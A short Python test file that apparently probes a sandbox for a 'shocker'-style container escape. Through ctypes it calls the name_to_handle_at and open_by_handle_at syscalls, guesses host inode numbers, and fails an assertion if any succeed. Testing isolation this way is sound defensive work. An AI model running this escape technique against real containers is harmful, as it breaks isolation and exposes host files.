# tries: to open files of the host by their handles, which know no root folder (as "shocker" did to Docker)
# must: be refused
# score: 10
import ctypes, os, platform, struct

libc = ctypes.CDLL(None, use_errno=True)
gained = []
NAME, OPEN = {"x86_64": (303, 304), "aarch64": (264, 265)}[platform.machine()]
handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0), 128)
number = ctypes.c_int()
if libc.syscall(NAME, -100, b"/usr", handle, ctypes.byref(number), 0) == 0:
    gained.append("the handle of a folder of the host")
for folder in ("/usr", "/tmp", "/questbook/inside"):
    opened = os.open(folder, os.O_RDONLY)
    for inode in (2, 64, 128, 256):
        root = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, inode, 0), 16)
        if libc.syscall(OPEN, opened, root, os.O_RDONLY) >= 0:
            gained.append(f"inode {inode} below {folder}")


def add(a, b):
    assert not gained, gained
    return a + b
